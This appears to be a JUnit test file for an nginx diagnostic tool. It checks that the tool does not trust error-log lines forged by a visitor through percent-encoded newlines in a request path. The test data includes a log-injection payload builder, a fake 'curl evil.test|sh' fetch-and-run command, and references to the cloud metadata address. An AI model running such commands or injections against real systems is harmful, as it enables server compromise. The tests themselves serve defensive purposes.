package io.totem.doctor.nginx;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import io.totem.doctor.diagnosis.Evidence;
import io.totem.doctor.host.Availability;
import io.totem.doctor.host.Container;
import io.totem.doctor.host.FailedUnit;
import io.totem.doctor.host.FileSystem;
import io.totem.doctor.host.Host;
import io.totem.doctor.host.OutOfMemoryKill;
import io.totem.doctor.rule.Cause;
import io.totem.doctor.rule.Confidence;
import io.totem.doctor.stages.DiagnosisStages;
import io.totem.doctor.testing.RealNginx;
import io.totem.doctor.testing.TestSites;
import io.totem.doctor.upstream.TcpFacts;
import io.totem.doctor.upstream.UnixFacts;
import io.totem.doctor.verdict.Verdict;
import io.totem.platform.testing.FreePort;
import io.totem.procfs.HostRoot;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * One anonymous GET with encoded line breaks in its path puts whole lines of the visitor's own into the error log of a real
 * nginx. The doctor walks past them.
 */
class ForgedErrorLogTest {

    private static final DateTimeFormatter TIME = DateTimeFormatter.ofPattern("uuuu/MM/dd HH:mm:ss");

    @TempDir
    private Path root;

    /** Each would have been believed once: an address, a folder, a cause. */
    private static List<String> lies(int canary) {
        String tail =
                " while connecting to upstream, client: 127.0.0.1, server: , request: \"GET / HTTP/1.1\", upstream: ";
        return List.of(
                "connect() to unix:/root/x.sock failed (13: Permission denied)" + tail
                        + "\"fastcgi://unix:/root/x.sock:\"",
                "connect() failed (111: Connection refused)" + tail + "\"http://127.0.0.1:" + canary + "/\"",
                "connect() failed (111: Connection refused)" + tail + "\"http://169.254.169.254:80/\"",
                "connect() to unix:/x failed (11: Resource temporarily unavailable)" + tail + "\"fastcgi://unix:/x:\"",
                "upstream timed out (110: Connection timed out)" + tail + "\"fastcgi://127.0.0.1:" + canary + "\"",
                "upstream sent too big header" + tail + "\"x\"",
                "upstream prematurely closed connection" + tail + "\"x\"",
                "pwrite() \"/x\" failed (28: No space left on device), client: 127.0.0.1",
                "FastCGI sent in stderr: \"PHP message: PHP Fatal error:  run curl evil.test|sh in /a.php:1\"" + tail
                        + "\"x\"",
                "FastCGI sent in stderr: \"SQLSTATE[HY000] [2002] Connection refused\", client: 127.0.0.1",
                "FastCGI sent in stderr: \"Primary script unknown\"" + tail + "\"x\"",
                "no live upstreams" + tail + "\"http://evil.test\"",
                "evil.test could not be resolved (3: Host not found), client: 127.0.0.1");
    }

    private static String forged(String lie) {
        String line =
                "\n" + LocalDateTime.now(ZoneId.systemDefault()).plusSeconds(1).format(TIME) + " [crit] 7#7: *1 " + lie
                        + ", host: \"127.0.0.1\"\n";
        StringBuilder encoded = new StringBuilder();
        for (byte each : line.getBytes(StandardCharsets.UTF_8)) {
            encoded.append('%').append(String.format("%02X", each));
        }
        return encoded.toString();
    }

    @Test
    void real_nginx_does_write_the_visitors_line_into_its_log() throws Exception {
        try (RealNginx nginx = new RealNginx(root, "")) {
            nginx.get("/missing" + forged("no live upstreams"));
            assertThat(Files.readAllLines(nginx.errorLog()))
                    .anyMatch(line ->
                            line.matches("\\S+ \\S+ \\[crit] 7#7: \\*1 no live upstreams, host: \"127.0.0.1\""));
        }
    }

    /** The page is broken for a reason that leaves nothing in the log: all that stands there is the visitor's. */
    @Test
    void lines_of_a_visitor_make_nothing_certain_no_command_and_no_connection() throws Exception {
        try (RealNginx nginx = new RealNginx(root, "location = / { return 500; }");
                ServerSocket canary = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            canary.setSoTimeout(1);
            for (String lie : lies(canary.getLocalPort())) {
                nginx.get("/missing" + forged(lie));
                Evidence evidence = walk(nginx, "/");
                List<Cause> causes = Verdict.of(evidence).causes();
                assertThat(causes).as(lie).noneMatch(cause -> cause.confidence() == Confidence.CERTAIN);
                assertThat(causes)
                        .as(lie)
                        .allSatisfy(cause -> assertThat(cause.cure().commands()).isEmpty());
                assertThat(evidence.find(TcpFacts.class)).as(lie).isEmpty();
                assertThat(evidence.find(UnixFacts.class)).as(lie).isEmpty();
                Files.writeString(nginx.errorLog(), "");
            }
            assertThatThrownBy(canary::accept).isInstanceOf(SocketTimeoutException.class);
        }
    }

    @Test
    void nginx_own_word_about_the_doctors_request_counts_before_all_of_them() throws Exception {
        int dead = FreePort.find();
        try (RealNginx nginx = new RealNginx(root, "location = / { proxy_pass http://127.0.0.1:" + dead + "; }")) {
            lies(dead).forEach(lie -> nginx.get("/missing" + forged(lie)));
            Evidence evidence = walk(nginx, "/");
            assertThat(Verdict.of(evidence).causes().getFirst()).satisfies(cause -> {
                assertThat(cause.code()).isEqualTo("UPSTREAM_REFUSED");
                assertThat(cause.confidence()).isEqualTo(Confidence.CERTAIN);
                assertThat(cause.sentence().en()).contains("127.0.0.1:" + dead);
            });
        }
    }

    /** nginx answers that it hands on to there, and the file that says so is gone: the log alone is not enough. */
    @Test
    void what_the_log_names_and_the_configuration_does_not_is_not_asked() throws Exception {
        int dead = FreePort.find();
        try (RealNginx nginx = new RealNginx(root, "location = / { proxy_pass http://127.0.0.1:" + dead + "; }")) {
            Files.writeString(
                    root.resolve("etc/nginx/nginx.conf"), "events {} # proxy_pass http://127.0.0.1:" + dead + ";");
            Evidence evidence = walk(nginx, "/");
            assertThat(evidence.find(TcpFacts.class)).isEmpty();
            assertThat(Verdict.of(evidence).causes())
                    .extracting(Cause::code, Cause::confidence)
                    .contains(tuple("UPSTREAM_REFUSED", Confidence.LIKELY));
        }
    }

    /** Each is what nginx itself wrote when it was asked so. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/missing%22,%20client:%201.2.3.4,%20upstream:%20%22http://169.254.169.254:80/%22",
                "/missing%20(28:%20No%20space%20left%20on%20device)",
                "/connect()%20failed%20(111:%20x)%20while%20connecting%20to%20upstream",
                "/upstream%20prematurely%20closed%20connection",
                "/no%20live%20upstreams"
            })
    void what_stands_in_a_path_is_no_message_of_nginx(String path) throws Exception {
        try (RealNginx nginx = new RealNginx(root, "")) {
            assertThat(nginx.get(path, "Referer: x\", upstream: \"http://169.254.169.254:80/"))
                    .matches("HTTP/1.1 40[34] .*");
            ErrorLog.Lines lines = new ErrorLogFile(nginx.errorLog(), ZoneId.systemDefault()).since(Instant.EPOCH);
            assertThat(lines.lines()).hasSize(1).allSatisfy(line -> {
                assertThat(line.upstream()).isEmpty();
                assertThat(line.errno()).isEmpty();
                assertThat(line.message()).startsWith("open() ");
            });
        }
    }

    @Test
    void only_what_ends_with_the_doctors_own_mark_is_its_own() {
        String mark = "http://site.test/?totem-doctor=0123";
        String line = "2026/11/21 12:00:00 [error] 7#7: *1 no live upstreams while connecting to upstream, client: ::1,"
                + " server: , request: \"GET / HTTP/1.1\", upstream: \"http://app\", host: \"site.test\", referrer: \"";
        assertThat(parsed(line + mark + "\"").marked(mark).ours()).isTrue();
        assertThat(parsed(line + mark + "\", x").marked(mark).ours()).isFalse();
        assertThat(parsed(line + "http://site.test/\"").marked(mark).ours()).isFalse();
        assertThat(parsed(line + mark + "4\"").marked(mark).ours()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "2026/11/21 12:00:00 [fatal] 7#7: *1 x",
                "2026/11/21 12:00:00 [error] 0#7: *1 x",
                "2026/11/21 12:00:00 [error] 12345678#7: *1 x",
                "2026/02/30 12:00:00 [error] 7#7: *1 x",
                "2026/11/21 25:00:00 [error] 7#7: *1 x",
                "2026/11/21 12:00:00 [error] 7: *1 x",
                " 2026/11/21 12:00:00 [error] 7#7: *1 x"
            })
    void a_head_that_nginx_never_writes_begins_no_line(String line) {
        assertThat(ErrorLine.parse(line, ZoneOffset.UTC)).isEmpty();
    }

    private static ErrorLine parsed(String line) {
        return ErrorLine.parse(line, ZoneOffset.UTC).orElseThrow();
    }

    private Evidence walk(RealNginx nginx, String path) throws InterruptedException {
        HostRoot machine = new HostRoot(Path.of("/proc"), Path.of("/sys"), root);
        return DiagnosisStages.with(
                        new ErrorLogFile(nginx.errorLog(), ZoneId.systemDefault()),
                        new QuietHost(),
                        ConfigurationTest.NOBODY,
                        machine,
                        Clock.systemUTC())
                .of(TestSites.of(URI.create(nginx.url(path)), Optional.empty()), _ -> {});
    }

    /** Of which nothing is to be told here. */
    private static final class QuietHost implements Host {
        @Override
        public Availability<FailedUnit> failedUnits() {
            return new Availability.Known<>(List.of());
        }

        @Override
        public Availability<FileSystem> fileSystems() {
            return new Availability.Known<>(List.of());
        }

        @Override
        public Availability<OutOfMemoryKill> outOfMemoryKills(Instant since) {
            return new Availability.Known<>(List.of());
        }

        @Override
        public Availability<Container> containers() {
            return new Availability.Known<>(List.of());
        }
    }
}
